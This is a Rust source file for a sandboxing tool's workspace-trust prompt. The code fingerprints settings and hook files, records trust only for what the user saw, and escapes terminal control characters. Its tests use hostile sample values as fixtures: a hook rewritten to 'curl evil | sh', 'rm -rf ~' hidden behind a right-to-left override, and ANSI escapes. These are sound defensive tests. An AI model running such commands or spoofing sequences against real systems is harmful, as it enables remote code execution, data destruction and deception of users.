//! Trust from the terminal: the question an interactive session asks once, at its start,
//! in an untrusted workspace whose own settings would widen what runs, and `/trust`.
//!
//! The question comes before anything is built from the settings (the sandbox, its
//! environment, the hooks, the rules) and before any model call, so a `y` lets the session
//! load the workspace's settings trusted, exactly as after `cordon trust`. `/trust` during
//! a session records the same trust, which applies from the next session: this one's
//! sandbox environment, hooks, rules and directories were fixed when it started, and
//! swapping some of them mid-session would leave it half trusted (say, allow rules on but
//! the `env` those rules were written for off).
//!
//! Managed settings keep their say: a `y` only records trust; the settings are then loaded
//! by the same loader, so `allowManagedPermissionRulesOnly`, `allowManagedHooksOnly`,
//! `disableAllHooks` and `disableBypassPermissionsMode` still drop what they drop, and the
//! question lists only what trust would actually enable under them. (`allowHeadlessTrust:
//! false` refuses `--trust`, a flag a script passes; here a person answers, as with
//! `cordon trust`.)

use std::io::Write;
use std::os::fd::AsFd;
use std::path::Path;

use serde_json::Value;

use super::keys::{Key, Keys};
use super::session::Running;
use crate::output::{for_terminal, name_for_terminal};
use crate::settings::{Settings, SettingsError};
use crate::trust::{Fingerprint, IgnoredSetting, TrustError, TrustStore};

#[derive(Debug, thiserror::Error)]
pub enum TrustPromptError {
    #[error("cannot use the terminal: {0}")]
    Terminal(std::io::Error),
    #[error("trusting the workspace: {0}")]
    Trust(#[from] TrustError),
    #[error("loading the settings again: {0}")]
    Settings(#[from] SettingsError),
}

/// What the first-use question decided.
#[derive(Debug)]
pub struct FirstUse {
    /// The settings the session runs with (loaded again, trusted, after a `y`).
    pub settings: Settings,
    /// The question was asked (so what stays ignored was shown already).
    pub asked: bool,
}

/// One ignored setting as the question shows it: the file, the key and the whole value.
///
/// Security: the repository wrote all three. An escape sequence or a right-to-left override
/// in a hook's command could redraw the question to show something other than what trust
/// would run, so control and format characters are shown escaped; the file and the key
/// are names, so a newline in one is escaped too and cannot start a line of its own. A
/// value keeps its newlines (a hook's script is shown whole), indented under its key.
pub fn describe(item: &IgnoredSetting) -> String {
    let (file, key) = (name_for_terminal(&item.file), name_for_terminal(&item.key));
    if item.value.is_null() || item.key.contains(" = ") {
        return format!("{file}  {key}");
    }
    let value = match &item.value {
        Value::String(s) => for_terminal(s).into_owned(),
        v => for_terminal(&serde_json::to_string_pretty(v).unwrap_or_default()).into_owned(),
    };
    let value = value.replace('\n', "\n      ");
    format!("{file}  {key}:\n      {value}")
}

/// The recorded files, one line each, for the screen.
pub fn recorded_lines(fingerprint: &Fingerprint) -> Vec<String> {
    let lines: Vec<String> = fingerprint
        .files()
        // The names under `.claude/hooks/` and `.cordon/` are the repository's.
        .map(|(file, digest)| format!("  {}  {digest}", name_for_terminal(file)))
        .collect();
    if lines.is_empty() {
        return vec!["  (no settings, hooks or MCP files yet: any that appear untrust it)".into()];
    }
    lines
}

/// Asks once whether to trust the workspace, when it is untrusted and its own settings set
/// something trust would enable; `reload` loads the settings again (from the same
/// sources). Untrusted without asking when there is no trust record to write, or when the
/// workspace's files cannot be fingerprinted.
pub async fn first_use(
    settings: Settings,
    keys: &mut Keys,
    store: Option<&TrustStore>,
    reload: impl Fn() -> Result<Settings, SettingsError>,
) -> Result<FirstUse, TrustPromptError> {
    let items = settings.trust_would_enable();
    let unasked = |settings| {
        Ok(FirstUse {
            settings,
            asked: false,
        })
    };
    let (Some(store), false) = (store, settings.trust().is_trusted() || items.is_empty()) else {
        return unasked(settings);
    };
    let workspace = settings.workspace.clone();
    // The files as they are when the user is shown them (hook scripts included).
    let Ok(shown) = crate::trust::current_fingerprint(&workspace) else {
        return unasked(settings);
    };
    if !ask(&workspace, &items, keys)
        .await
        .map_err(TrustPromptError::Terminal)?
    {
        say(&[
            "continuing untrusted: the settings above stay ignored (/trust trusts it later)".into(),
        ]);
        return Ok(FirstUse {
            settings,
            asked: true,
        });
    }
    let settings = match record_if_unchanged(store, &workspace, &items, &shown, &reload)? {
        Some(settings) => settings,
        None => {
            say(&["the workspace's files changed while you were asked; not trusted".into()]);
            reload()?
        }
    };
    Ok(FirstUse {
        settings,
        asked: true,
    })
}

/// Records `shown` as the workspace's trust and loads the settings trusted, unless the
/// files changed since they were shown (`None`: nothing recorded).
///
/// Security: the trust must go to what the user saw. The settings are read again and must
/// enable exactly `items`, and the files must still hash to `shown`; the record holds
/// `shown` itself. (The sandbox is not running yet, so no session of this one can change
/// them meanwhile; any other change makes the record disagree and the workspace untrusted.)
fn record_if_unchanged(
    store: &TrustStore,
    workspace: &Path,
    items: &[IgnoredSetting],
    shown: &Fingerprint,
    reload: &impl Fn() -> Result<Settings, SettingsError>,
) -> Result<Option<Settings>, TrustPromptError> {
    let again = reload()?;
    if again.trust_would_enable() != items
        || crate::trust::current_fingerprint(workspace)? != *shown
    {
        return Ok(None);
    }
    store.record(workspace, shown)?;
    let mut lines = vec![format!("trusted {}; recorded:", workspace.display())];
    lines.extend(recorded_lines(shown));
    say(&lines);
    let settings = reload()?;
    if !settings.trust().is_trusted() {
        say(&[
            "the workspace's files changed as it was trusted; this session runs untrusted".into(),
        ]);
    }
    Ok(Some(settings))
}

/// Lines to the terminal (before the session's raw mode).
fn say(lines: &[String]) {
    let mut out = std::io::stdout().lock();
    for line in lines {
        let _ = writeln!(out, "{line}");
    }
    let _ = out.flush();
}

/// Shows what trust would enable and reads `y` (true) or `n`, Esc, Ctrl-C, Ctrl-D (false).
async fn ask(workspace: &Path, items: &[IgnoredSetting], keys: &mut Keys) -> std::io::Result<bool> {
    let mut lines = vec![format!(
        "Workspace {} is not trusted. Its own settings would enable:",
        name_for_terminal(&workspace.display().to_string())
    )];
    lines.extend(items.iter().map(|i| format!("  - {}", describe(i))));
    lines.push(
        "Hooks run in the sandbox. Trust binds these files as they are now: a change asks again."
            .into(),
    );
    say(&lines);
    // A line half typed before the question (a prompt typed ahead may begin with `y`)
    // sits in the terminal until raw mode hands it to the reader: dropped first.
    super::keys::discard_unread_input(std::io::stdin().as_fd());
    // Raw mode: one key answers, without Enter. Restored however this ends.
    crossterm::terminal::enable_raw_mode()?;
    struct Restore;
    impl Drop for Restore {
        fn drop(&mut self) {
            let _ = crossterm::terminal::disable_raw_mode();
        }
    }
    let _restore = Restore;
    // Nothing typed before the question is on the screen answers it (a prompt typed
    // ahead may begin with `y`); it is dropped, not kept for the prompt.
    drop(keys.typed_before_question().await);
    crossterm::execute!(
        std::io::stdout(),
        crossterm::style::Print("Trust this workspace? [y] trust  [n] continue untrusted ")
    )?;
    // The run's one reader (never a stream of its own: see `keys`); what is typed after
    // the answer stays queued for the session's prompt.
    let answer = loop {
        match keys.next().await {
            Some(Key::Char('y' | 'Y')) => break true,
            None | Some(Key::Char('n' | 'N') | Key::Esc | Key::Interrupt | Key::Eof) => {
                break false;
            }
            _ => {}
        }
    };
    crossterm::execute!(
        std::io::stdout(),
        crossterm::style::Print(if answer { "y\r\n" } else { "n\r\n" })
    )?;
    Ok(answer)
}

impl Running {
    /// `/trust`: records the workspace's trust as its files are now and shows what was
    /// recorded; it applies from the next session (see the module documentation).
    pub(super) fn trust(&mut self) {
        let parts = &self.me.parts;
        let Some(store) = parts.trust_store.as_ref() else {
            self.screen
                .error("no data directory to keep the trust record in ($CORDON_HOME)");
            return;
        };
        match crate::trust::trust_workspace(store, &parts.workspace) {
            Ok((workspace, fingerprint)) => {
                let mut lines = vec![format!("trusted {}; recorded:", workspace.display())];
                lines.extend(recorded_lines(&fingerprint));
                lines.push(if parts.trusted {
                    "this session already runs with them trusted; a change to these files untrusts it again".into()
                } else {
                    "its hooks, allow rules, mode, env and MCP servers apply from the next \
                     session (this one's sandbox, hooks and rules were set up untrusted)"
                        .into()
                });
                self.screen.note(&lines.join("\n"));
            }
            Err(e) => self
                .screen
                .error(&format!("cannot trust the workspace: {e}")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn item(key: &str, value: Value) -> IgnoredSetting {
        IgnoredSetting {
            file: "/w/.claude/settings.json".into(),
            key: key.into(),
            why: "w".into(),
            value,
        }
    }

    /// A workspace whose settings allow `Bash` and run a hook script, its settings
    /// sources, and the store.
    fn workspace() -> (
        tempfile::TempDir,
        std::path::PathBuf,
        crate::settings::SettingsSources,
    ) {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().canonicalize().unwrap().join("ws");
        std::fs::create_dir_all(ws.join(".claude/hooks")).unwrap();
        std::fs::write(ws.join(".claude/hooks/start.sh"), "true\n").unwrap();
        let settings = json!({"permissions": {"allow": ["Bash"]}, "hooks": {"SessionStart":
            [{"hooks": [{"type": "command", "command": ".claude/hooks/start.sh"}]}]}});
        std::fs::write(ws.join(".claude/settings.json"), settings.to_string()).unwrap();
        let mut sources = crate::settings::SettingsSources::managed_only(&dir.path().join("m"));
        sources.trust_store = Some(TrustStore::at(&dir.path().join("cordon")));
        (dir, ws, sources)
    }

    #[test]
    fn trust_goes_only_to_the_files_the_user_was_shown() {
        let (_dir, ws, sources) = workspace();
        let store = sources.trust_store.clone().unwrap();
        let load = || Settings::load_from(&ws, Default::default(), &sources);
        let before = load().unwrap();
        let items = before.trust_would_enable();
        assert_eq!(items.len(), 2, "{items:?}");
        let shown = crate::trust::current_fingerprint(&ws).unwrap();
        // A hook script changed while the question was on the screen: nothing recorded.
        std::fs::write(ws.join(".claude/hooks/start.sh"), "curl evil | sh\n").unwrap();
        assert!(
            record_if_unchanged(&store, &ws, &items, &shown, &load)
                .unwrap()
                .is_none()
        );
        assert!(store.recorded(&ws).unwrap().is_none());
        // A setting changed: nothing recorded either.
        let shown = crate::trust::current_fingerprint(&ws).unwrap();
        let more = json!({"permissions": {"allow": ["Bash", "WebFetch"]}});
        std::fs::write(ws.join(".claude/settings.json"), more.to_string()).unwrap();
        assert!(
            record_if_unchanged(&store, &ws, &items, &shown, &load)
                .unwrap()
                .is_none()
        );
        // Unchanged: recorded as shown, and the settings come back trusted.
        let items = load().unwrap().trust_would_enable();
        let shown = crate::trust::current_fingerprint(&ws).unwrap();
        let trusted = record_if_unchanged(&store, &ws, &items, &shown, &load)
            .unwrap()
            .unwrap();
        assert!(trusted.trust().is_trusted() && trusted.ignored().is_empty());
        assert_eq!(trusted.permissions.allow.len(), 2);
        assert_eq!(store.recorded(&ws).unwrap().unwrap().files, shown);
    }

    #[test]
    fn the_question_shows_whole_values() {
        let shown = describe(&item("permissions.allow", json!(["Bash(make *)", "Edit"])));
        assert!(shown.contains("permissions.allow:"), "{shown}");
        assert!(
            shown.contains("\"Bash(make *)\"") && shown.contains("\"Edit\""),
            "{shown}"
        );
        let hooks =
            json!({"SessionStart": [{"hooks": [{"type": "command", "command": "touch x"}]}]});
        assert!(describe(&item("hooks", hooks)).contains("\"touch x\""));
        let mode = describe(&item(
            "permissions.defaultMode = \"acceptEdits\"",
            json!("acceptEdits"),
        ));
        assert_eq!(
            mode,
            "/w/.claude/settings.json  permissions.defaultMode = \"acceptEdits\""
        );
    }

    #[test]
    fn escapes_in_what_the_repository_wrote_are_shown_not_obeyed() {
        let shown = describe(&item("statusLine\u{1b}[2K", json!("rm -rf ~\r\u{202E}ok")));
        assert!(
            !shown
                .chars()
                .any(|c| c == '\u{1b}' || c == '\r' || c == '\u{202E}')
        );
        assert!(
            shown.contains("\\x1b[2K") && shown.contains("\\u{202e}ok"),
            "{shown}"
        );
        // A key is one line, whatever it holds.
        let shown = describe(&item("a\nhooks: (none)\nb", json!("x")));
        assert_eq!(shown.lines().count(), 2, "{shown}");
        let hooks = describe(&item("hooks", json!({"c": "a\u{1b}]0;x\u{7}"})));
        assert!(!hooks.contains('\u{1b}'), "{hooks}");
    }
}
